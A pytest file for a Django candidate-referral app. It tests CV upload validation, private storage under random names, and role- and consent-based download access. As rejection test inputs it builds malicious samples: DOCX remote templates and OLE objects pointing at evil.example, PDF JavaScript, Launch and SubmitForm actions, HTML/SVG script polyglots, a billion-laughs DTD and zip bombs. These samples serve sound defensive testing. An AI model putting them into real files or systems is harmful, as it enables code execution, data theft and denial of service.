"""The CV: checked by content, stored under a random name outside any URL, and handed only to
those allowed to see it. Every file here is built by the test; no binary fixture is committed."""

import io
import re
import zipfile
from pathlib import Path

import pikepdf
import pytest
from django.conf import settings as django_settings
from django.contrib.auth.models import AnonymousUser
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import InMemoryUploadedFile, SimpleUploadedFile
from django.urls import reverse

from accounts.models import User
from candidates.cv import DOCX, MAX_BYTES, PDF, WORD_MAIN, validate_cv
from candidates.models import Consent
from candidates.services import candidate_set_cv
from common.storage import private_storage
from referrals.models import ReferralStatus
from referrals.selectors import can_view_cv
from tests.documents import make_pdf
from tests.factories import (
    AgentFactory,
    CandidateFactory,
    CoordinatorFactory,
    CounsellorFactory,
    ReferralFactory,
    TerritoryFactory,
    UserFactory,
)

pytestmark = pytest.mark.django_db

KIND = "Envoyez votre CV en PDF ou en Word (DOCX)."
EMPTY = "Le fichier est vide. Choisissez de nouveau votre CV."
TOO_BIG = "Le fichier dépasse 5 Mo. Envoyez une version plus légère."
PDF_DAMAGED = (
    "Ce PDF semble abîmé ou incomplet. Enregistrez de nouveau votre CV en PDF depuis votre logiciel, puis réessayez."
)
DOCX_DAMAGED = (
    "Ce document Word semble abîmé. Enregistrez de nouveau votre CV en Word (DOCX) depuis votre logiciel, "
    "puis réessayez."
)
NOT_WORD = "Ce fichier n'est pas un document Word. Envoyez votre CV en PDF ou en Word (DOCX)."
MACROS = (
    "Ce document Word contient des macros ou des éléments actifs. Enregistrez votre CV en document Word "
    "ordinaire (DOCX) ou en PDF, puis réessayez."
)
DOCX_TOO_BIG = "Ce document Word contient trop de données. Enregistrez votre CV en PDF, puis réessayez."

DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"


# --- Building real files --------------------------------------------------------------------


def content_types(*overrides: tuple[str, str]) -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        + "".join(f'<Override PartName="{part}" ContentType="{ct}"/>' for part, ct in overrides)
        + "</Types>"
    )


def relationships(*rels: tuple[str, str, str]) -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + "".join(
            f'<Relationship Id="rId{i}" Type="{kind}" Target="{target}"{mode}/>'
            for i, (kind, target, mode) in enumerate(rels, start=1)
        )
        + "</Relationships>"
    )


OFFICE_DOCUMENT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"
WORD_DOCUMENT_XML = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body><w:p><w:r><w:t>Amina Diallo</w:t></w:r></w:p><w:sectPr/></w:body></w:document>"
)


def make_zip(parts: dict[str, str | bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def docx_parts(main_type: str = WORD_MAIN) -> dict[str, str | bytes]:
    return {
        "[Content_Types].xml": content_types(("/word/document.xml", main_type)),
        "_rels/.rels": relationships((OFFICE_DOCUMENT, "word/document.xml", "")),
        "word/document.xml": WORD_DOCUMENT_XML,
    }


def make_docx(extra: dict[str, str | bytes] | None = None) -> bytes:
    return make_zip(docx_parts() | (extra or {}))


def stored_docx(extra: dict[str, str]) -> bytes:
    """A DOCX with extra parts stored uncompressed: their bytes are in the file as they are."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        for name, content in (docx_parts() | extra).items():
            archive.writestr(name, content)
    return buffer.getvalue()


def zip_with_zeros(megabytes: int) -> bytes:
    """A DOCX whose document is `megabytes` MB of zeros, written in 1 MB chunks."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in docx_parts().items():
            if name != "word/document.xml":
                archive.writestr(name, content)
        with archive.open("word/document.xml", "w", force_zip64=True) as document:
            chunk = b"\0" * (1024 * 1024)
            for _ in range(megabytes):
                document.write(chunk)
    return buffer.getvalue()


class ReadCountingBytesIO(io.BytesIO):
    bytes_read = 0

    def read(self, size: int | None = -1) -> bytes:
        data = super().read(size)
        self.bytes_read += len(data)
        return data


def upload(name: str, data: bytes, content_type: str = "application/octet-stream") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, content_type=content_type)


def rejection(file) -> ValidationError:
    with pytest.raises(ValidationError) as error:
        validate_cv(file)
    assert file.tell() == 0
    return error.value


# --- validate_cv ----------------------------------------------------------------------------


def test_a_real_pdf_passes_and_the_file_is_rewound():
    file = upload("cv.pdf", make_pdf(), "application/pdf")

    assert validate_cv(file) == PDF
    assert file.tell() == 0


def test_a_real_docx_passes_and_the_file_is_rewound():
    file = upload("cv.docx", make_docx(), DOCX_TYPE)

    assert validate_cv(file) == DOCX
    assert file.tell() == 0


def test_the_content_decides_not_the_name_or_the_content_type():
    assert validate_cv(upload("cv.docx", make_pdf(), DOCX_TYPE)) == PDF
    assert validate_cv(upload("cv.pdf", make_docx(), "application/pdf")) == DOCX


def test_a_pdf_of_exactly_5_mb_passes():
    padding = MAX_BYTES - len(make_pdf(padding=1))
    while len(data := make_pdf(padding=padding)) != MAX_BYTES:
        padding += MAX_BYTES - len(data)

    assert validate_cv(upload("cv.pdf", data)) == PDF


def test_a_docx_with_an_external_hyperlink_passes():
    """CVs link to LinkedIn: external hyperlinks are not active content."""
    hyperlink = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"
    rels = relationships((hyperlink, "https://www.linkedin.com/in/amina", ' TargetMode="External"'))

    assert validate_cv(upload("cv.docx", make_docx({"word/_rels/document.xml.rels": rels}))) == DOCX


def test_a_pdf_with_an_xref_stream_and_trailing_whitespace_passes():
    """PDF 1.5+ writers (pdfTeX, Word) point startxref at a cross-reference stream object."""
    pdf, out = pikepdf.new(), io.BytesIO()
    pdf.add_blank_page()
    pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)  # an xref stream
    data = out.getvalue() + b"\r\n\n  "
    assert b"/XRef" in data

    assert validate_cv(upload("cv.pdf", data)) == PDF


def test_a_pdf_over_5_mb_is_refused_by_its_size_without_being_read():
    data = make_pdf(padding=6 * 1024 * 1024)
    stream = ReadCountingBytesIO(data)
    file = InMemoryUploadedFile(stream, "cv", "cv.pdf", "application/pdf", len(data), None)

    assert rejection(file).messages == [TOO_BIG]
    assert stream.bytes_read == 0


@pytest.mark.parametrize(
    ("name", "data", "message"),
    [
        pytest.param("cv.pdf", b"", EMPTY, id="empty"),
        pytest.param("cv.pdf", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\0" * 500 + b"This program", KIND, id="exe"),
        pytest.param("cv.pdf", b"<!DOCTYPE html><html><script>alert(1)</script></html>", KIND, id="html-renamed-pdf"),
        pytest.param("cv.pdf", b"\x89PNG\r\n\x1a\n" + b"\0" * 100, KIND, id="png"),
        pytest.param("cv.pdf", "Amina Diallo, développeuse".encode(), KIND, id="text"),
        pytest.param("cv.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500, KIND, id="word-97-doc"),
        pytest.param("cv.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 40, PDF_DAMAGED, id="pdf-header-then-garbage"),
        pytest.param("cv.pdf", b"%PDF-\n1 0 obj\nendobj\n", PDF_DAMAGED, id="pdf-without-version"),
        pytest.param(
            "cv.pdf",
            b"%PDF-1.4\n" + b"garbage " * 100 + b"\nstartxref\n20\n%%EOF\n",
            PDF_DAMAGED,
            id="pdf-trailer-pointing-at-garbage",
        ),
        pytest.param("cv.pdf", make_pdf()[:-60], PDF_DAMAGED, id="pdf-truncated"),
        pytest.param("cv.pdf", make_pdf() + b"<html>" + b"x" * 2000, PDF_DAMAGED, id="pdf-with-data-after-eof"),
        pytest.param("cv.docx", b"PK\x03\x04" + b"garbage" * 100, DOCX_DAMAGED, id="zip-header-then-garbage"),
        pytest.param("cv.docx", make_docx()[:-30], DOCX_DAMAGED, id="docx-truncated"),
    ],
)
def test_bad_files_are_refused_with_a_clear_message(name, data, message):
    assert rejection(upload(name, data)).messages == [message]


def test_a_spreadsheet_named_docx_is_not_a_word_document():
    xlsx = make_zip(
        {
            "[Content_Types].xml": content_types(
                ("/xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml")
            ),
            "_rels/.rels": relationships((OFFICE_DOCUMENT, "xl/workbook.xml", "")),
            "xl/workbook.xml": "<workbook/>",
        }
    )

    assert rejection(upload("cv.docx", xlsx, DOCX_TYPE)).messages == [NOT_WORD]


@pytest.mark.parametrize(
    "parts",
    [
        pytest.param({"cv.txt": "Amina Diallo", "lettre.txt": "Bonjour"}, id="zip-of-text-files"),
        pytest.param(
            {"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<office:document/>"},
            id="odt",
        ),
        pytest.param(
            docx_parts() | {"[Content_Types].xml": content_types()},
            id="main-part-not-declared",
        ),
        pytest.param(
            {name: content for name, content in docx_parts().items() if name != "word/document.xml"},
            id="main-part-missing",
        ),
    ],
)
def test_other_zips_are_not_word_documents(parts):
    assert rejection(upload("cv.docx", make_zip(parts))).messages == [NOT_WORD]


def test_a_macro_enabled_document_is_refused():
    docm = make_zip(
        docx_parts(main_type="application/vnd.ms-word.document.macroEnabled.main+xml")
        | {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 100}
    )

    assert rejection(upload("cv.docx", docm)).messages == [MACROS]


def test_a_docx_carrying_a_vba_project_is_refused():
    assert rejection(upload("cv.docx", make_docx({"word/vbaProject.bin": b"\0" * 100}))).messages == [MACROS]


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("attachedTemplate", "https://evil.example/template.dotm"),
        ("oleObject", "mhtml:https://evil.example/x.html!x-usc:https://evil.example/x.html"),
    ],
)
def test_a_docx_fetching_a_remote_template_or_object_is_refused(kind, target):
    rels = relationships(
        (
            f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}",
            target,
            ' TargetMode="External"',
        )
    )

    assert rejection(upload("cv.docx", make_docx({"word/_rels/settings.xml.rels": rels}))).messages == [MACROS]


def test_a_docx_with_a_dtd_is_refused():
    """No DTD, so no entity expansion ("billion laughs") when the XML is parsed."""
    bomb = '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">]><Types>&lol;</Types>'
    assert rejection(upload("cv.docx", make_docx({"[Content_Types].xml": bomb}))).messages == [DOCX_DAMAGED]


def test_a_zip_bomb_is_refused_without_being_inflated():
    data = zip_with_zeros(200)  # 200 MB of zeros: about 200 KB once compressed
    assert len(data) < 1024 * 1024

    assert rejection(upload("cv.docx", data)).messages == [DOCX_TOO_BIG]


def test_an_entry_compressed_too_well_is_refused_even_under_the_total_limit():
    assert rejection(upload("cv.docx", zip_with_zeros(20))).messages == [DOCX_TOO_BIG]


def test_a_zip_with_too_many_entries_is_refused():
    parts = docx_parts() | {f"word/media/image{i}.png": b"x" for i in range(1000)}

    assert rejection(upload("cv.docx", make_zip(parts))).messages == [DOCX_TOO_BIG]


# --- Storage --------------------------------------------------------------------------------


@pytest.fixture
def media_root(settings, tmp_path) -> Path:
    """A private MEDIA_ROOT per test; common.storage reads MEDIA_ROOT again when it changes."""
    settings.MEDIA_ROOT = tmp_path / "private"
    return settings.MEDIA_ROOT


def store_cv(candidate, name: str = "Amina CV.pdf", data: bytes | None = None) -> None:
    file = upload(name, make_pdf() if data is None else data)
    candidate_set_cv(candidate=candidate, file=file, kind=validate_cv(file))


def test_private_media_is_outside_static_files():
    media = Path(django_settings.MEDIA_ROOT).resolve()
    for static in [django_settings.STATIC_ROOT, *django_settings.STATICFILES_DIRS]:
        assert not media.is_relative_to(Path(static).resolve())
        assert not Path(static).resolve().is_relative_to(media)


def test_the_cv_is_stored_under_a_random_name(media_root):
    candidate = CandidateFactory()

    store_cv(candidate, name="Mon CV secret.pdf")

    candidate.refresh_from_db()
    assert private_storage.location == str(media_root)
    assert re.fullmatch(r"cv/[0-9a-f]{32}", candidate.cv.name)
    assert candidate.cv_filename == "Mon CV secret.pdf"
    assert (media_root / candidate.cv.name).read_bytes() == make_pdf()
    assert sorted(str(p.relative_to(media_root)) for p in media_root.rglob("*")) == ["cv", candidate.cv.name]


def test_a_new_cv_replaces_the_old_one_once_committed(media_root, django_capture_on_commit_callbacks):
    candidate = CandidateFactory()
    store_cv(candidate)
    old = media_root / candidate.cv.name

    with django_capture_on_commit_callbacks(execute=True) as callbacks:
        store_cv(candidate, name="cv.docx", data=make_docx())
        assert old.exists()  # until the change is committed

    assert len(callbacks) == 1
    assert not old.exists()
    candidate.refresh_from_db()
    assert candidate.cv_filename == "cv.docx"
    assert (media_root / candidate.cv.name).read_bytes() == make_docx()


def test_the_cv_has_no_url_but_the_download_view(client, media_root):
    candidate = CandidateFactory()
    store_cv(candidate)
    client.force_login(candidate.user)
    name = candidate.cv.name

    for url in (f"/media/{name}", f"/{name}", f"/static/{name}", f"/private/{name}", f"/var/private/{name}"):
        assert client.get(url).status_code == 404, url
    assert download(client, candidate)[0].status_code == 200


# --- Who may see it -------------------------------------------------------------------------


@pytest.fixture
def referred(media_root):
    """A candidate with a CV, referred to a territory with an agent who has an account."""
    territory = TerritoryFactory()
    candidate = CandidateFactory(target_territory=territory)
    store_cv(candidate)
    ReferralFactory(candidate=candidate, territory=territory)
    return candidate, territory


def agent_user(*territories, is_active: bool = True) -> User:
    user = UserFactory(role=User.Role.AGENT)
    AgentFactory(territories=list(territories), user=user, is_active=is_active)
    return user


def withdraw_sharing(candidate) -> None:
    Consent.objects.create(
        candidate=candidate,
        purpose=Consent.Purpose.SHARING,
        granted=False,
        text_version="test",
        method=Consent.Method.MY_FILE,
    )


def test_selector_lets_the_candidate_and_counsellors_see_without_a_query(referred, django_assert_num_queries):
    candidate, _territory = referred
    with django_assert_num_queries(0):
        assert can_view_cv(candidate.user, candidate)
        assert can_view_cv(CounsellorFactory.build(), candidate)
        assert can_view_cv(CoordinatorFactory.build(), candidate)
        assert not can_view_cv(AnonymousUser(), candidate)
        assert not can_view_cv(CounsellorFactory.build(is_active=False), candidate)


def test_selector_refuses_other_people(referred):
    candidate, territory = referred

    assert not can_view_cv(CandidateFactory().user, candidate)
    assert not can_view_cv(UserFactory(role=User.Role.AGENT), candidate)  # no Agent row
    assert not can_view_cv(agent_user(TerritoryFactory()), candidate)
    assert not can_view_cv(agent_user(territory, is_active=False), candidate)


def test_selector_lets_an_agent_of_a_referred_territory_see_while_sharing_is_consented(referred):
    candidate, territory = referred
    agent = agent_user(territory)

    assert can_view_cv(agent, candidate)
    withdraw_sharing(candidate)
    assert not can_view_cv(agent, candidate)


def test_selector_a_targeted_territory_is_not_enough_without_a_referral(media_root):
    territory = TerritoryFactory()
    candidate = CandidateFactory(target_territory=territory)

    assert not can_view_cv(agent_user(territory), candidate)


def test_selector_an_unlinked_file_is_nobody_s_but_staff():
    candidate = CandidateFactory(user=None)

    assert not can_view_cv(UserFactory(), candidate)


# --- The download view ----------------------------------------------------------------------


def cv_url(candidate) -> str:
    return reverse("my_file:cv_download", args=[candidate.pk])


def download(client, candidate, method: str = "get"):
    response = getattr(client, method)(cv_url(candidate))
    # The test client closes a streamed response (and its file) once it has been read through.
    body = b"".join(response.streaming_content) if getattr(response, "streaming", False) else response.content
    return response, body


def test_anonymous_visitor_is_sent_to_sign_in(client, referred):
    candidate, _territory = referred

    response, _body = download(client, candidate)

    assert response.status_code == 302
    assert response["Location"].startswith(reverse("account_login"))


def test_the_candidate_downloads_their_cv_as_an_attachment(client, referred):
    candidate, _territory = referred
    client.force_login(candidate.user)

    response, body = download(client, candidate)

    assert response.status_code == 200
    assert body == make_pdf()
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"] == 'attachment; filename="Amina CV.pdf"'
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Cache-Control"] == "private, no-store"
    assert response["Content-Security-Policy"] == "sandbox"


def test_a_docx_goes_out_as_a_docx_with_its_non_ascii_name(client, media_root):
    candidate = CandidateFactory()
    data = make_docx()  # once: a zip's entries carry the time they were written
    store_cv(candidate, name="CV Amélie.docx", data=data)
    client.force_login(candidate.user)

    response, body = download(client, candidate)

    assert response.status_code == 200
    assert body == data
    assert response["Content-Type"] == DOCX_TYPE
    assert response["Content-Disposition"] == "attachment; filename*=utf-8''CV%20Am%C3%A9lie.docx"


def test_head_is_allowed_and_post_is_not(client, referred):
    candidate, _territory = referred
    client.force_login(candidate.user)

    assert download(client, candidate, "head")[0].status_code == 200
    assert download(client, candidate, "post")[0].status_code == 405


@pytest.mark.parametrize("factory", [CounsellorFactory, CoordinatorFactory])
def test_counsellors_and_coordinators_download(client, referred, factory):
    candidate, _territory = referred
    client.force_login(factory())

    assert download(client, candidate)[0].status_code == 200


@pytest.mark.parametrize("status", [ReferralStatus.PENDING, ReferralStatus.ACCEPTED])
def test_an_agent_of_a_referred_territory_downloads_while_sharing_is_consented(client, media_root, status):
    territory = TerritoryFactory()
    candidate = CandidateFactory(target_territory=territory)
    store_cv(candidate)
    ReferralFactory(candidate=candidate, territory=territory, status=status)
    client.force_login(agent_user(territory))

    assert download(client, candidate)[0].status_code == 200
    withdraw_sharing(candidate)
    assert download(client, candidate)[0].status_code == 404


@pytest.mark.parametrize("status", [ReferralStatus.DECLINED, ReferralStatus.EXPIRED, ReferralStatus.WITHDRAWN])
def test_an_agent_whose_referral_ended_gets_a_404(client, media_root, status):
    territory = TerritoryFactory()
    candidate = CandidateFactory(target_territory=territory)
    store_cv(candidate)
    ReferralFactory(candidate=candidate, territory=territory, status=status)
    client.force_login(agent_user(territory))

    assert download(client, candidate)[0].status_code == 404


def test_everyone_else_gets_the_same_404_as_for_a_missing_file(client, referred):
    candidate, territory = referred
    others = [
        CandidateFactory().user,
        agent_user(TerritoryFactory()),
        agent_user(territory, is_active=False),
        UserFactory(role=User.Role.AGENT),  # no Agent row
    ]
    for user in others:
        client.force_login(user)
        assert download(client, candidate)[0].status_code == 404, user
    assert client.get(reverse("my_file:cv_download", args=[candidate.pk + 1000])).status_code == 404


def test_no_cv_stored_is_a_404_even_for_the_candidate(client, media_root):
    candidate = CandidateFactory()
    client.force_login(candidate.user)

    assert download(client, candidate)[0].status_code == 404


def test_a_file_missing_on_disk_is_a_404(client, referred, media_root):
    candidate, _territory = referred
    (media_root / candidate.cv.name).unlink()
    client.force_login(candidate.user)

    assert download(client, candidate)[0].status_code == 404


@pytest.mark.parametrize("rows", [1, 50])
def test_the_agent_s_download_costs_the_same_queries_however_long_the_history(
    client, media_root, django_assert_num_queries, rows
):
    """Session, user, candidate, the agent and their territories, the referrals to those
    territories with their follow-up steps, the latest sharing consent with its words, the access
    log's INSERT: nine, flat."""
    territory = TerritoryFactory()
    candidate = CandidateFactory(target_territory=territory)
    store_cv(candidate)
    ReferralFactory(candidate=candidate, territory=territory)
    for _ in range(rows - 1):
        ReferralFactory(candidate=candidate, territory=TerritoryFactory(), status=ReferralStatus.DECLINED)
        withdraw_sharing(candidate)
        Consent.objects.create(
            candidate=candidate, purpose="sharing", granted=True, text_version="test", method="my_file"
        )
    client.force_login(agent_user(territory))

    with django_assert_num_queries(9):
        assert download(client, candidate)[0].status_code == 200


# --- Active content and polyglots ---------------------------------------------------------------

ACTIVE = "Ce PDF contient des éléments actifs"
POLYGLOT = "Ce fichier contient aussi une page web."


@pytest.mark.parametrize(
    ("catalog", "extra"),
    [
        pytest.param(b"/OpenAction 6 0 R ", (b"<< /S /JavaScript /JS (app.alert(1)) >>",), id="javascript-on-open"),
        pytest.param(b"/OpenAction 6 0 R ", (b"<< /S /Launch /F (calc.exe) >>",), id="launch"),
        pytest.param(
            b"/Names << /JavaScript 6 0 R >> ",
            (b"<< /Names [(a) 7 0 R] >>", b"<< /S /JavaScript /JS (x) >>"),
            id="names-tree",
        ),
        pytest.param(b"/Names << /EmbeddedFiles 6 0 R >> ", (b"<< /Names [] >>",), id="embedded-files"),
        pytest.param(b"/AcroForm << /Fields [] /XFA 6 0 R >> ", (b"<< /Length 0 >>\nstream\n\nendstream",), id="xfa"),
        pytest.param(
            b"/AA << /WC 6 0 R >> ", (b"<< /S /SubmitForm /F (https://evil.example) >>",), id="additional-actions"
        ),
        pytest.param(b"", (b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 1 1] >>",), id="rich-media-unreferenced"),
    ],
)
def test_pdfs_with_active_content_are_refused(catalog, extra):
    data = make_pdf(catalog=catalog, extra=extra)

    assert rejection(upload("cv.pdf", data)).messages[0].startswith(ACTIVE)


def test_active_content_hidden_in_a_compressed_object_stream_is_found():
    pdf, out = pikepdf.new(), io.BytesIO()
    pdf.add_blank_page()
    pdf.Root.OpenAction = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)"))
    pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    assert b"JavaScript" not in out.getvalue()  # compressed: no byte search would see it

    assert rejection(upload("cv.pdf", out.getvalue())).messages[0].startswith(ACTIVE)


@pytest.mark.parametrize(
    ("name", "data"),
    [
        pytest.param("cv.pdf", make_pdf(extra=(b"<< /Title (<html><script>alert(1)</script>) >>",)), id="pdf-html"),
        pytest.param("cv.pdf", make_pdf(extra=(b"<< /Title (<svg onload=alert(1)>) >>",)), id="pdf-svg"),
        pytest.param(
            "cv.docx", stored_docx({"index.html": "<!DOCTYPE html><script>alert(1)</script>"}), id="docx-html"
        ),
    ],
)
def test_files_that_are_also_web_pages_are_refused(name, data):
    assert rejection(upload(name, data)).messages[0].startswith(POLYGLOT)


def test_an_upload_over_the_limit_is_dropped_as_it_streams_and_the_step_says_so(client, tmp_path, settings):
    from candidates.models import Candidate

    settings.MEDIA_ROOT = tmp_path / "private"
    settings.FILE_UPLOAD_TEMP_DIR = str(tmp_path / "tmp")
    (tmp_path / "tmp").mkdir()
    candidate = CandidateFactory(status="draft", registration_step=3, consents=False)
    client.force_login(candidate.user)
    big = SimpleUploadedFile("cv.pdf", make_pdf(padding=5 * 1024 * 1024 + 10), content_type="application/pdf")

    response = client.post(
        reverse("candidates:registration_step", args=[3]),
        {
            "occupation_field": "Soins infirmiers",
            "highest_diploma": "college",
            "years_experience": "3",
            "contact_method": "phone",
            "cv": big,
        },
    )

    assert response.status_code == 200
    assert TOO_BIG in response.content.decode()
    assert list((tmp_path / "tmp").iterdir()) == []  # nothing spooled to disk
    assert not Candidate.objects.get(pk=candidate.pk).cv
    assert Candidate.objects.get(pk=candidate.pk).occupation_field == "Soins infirmiers"  # the answers are kept
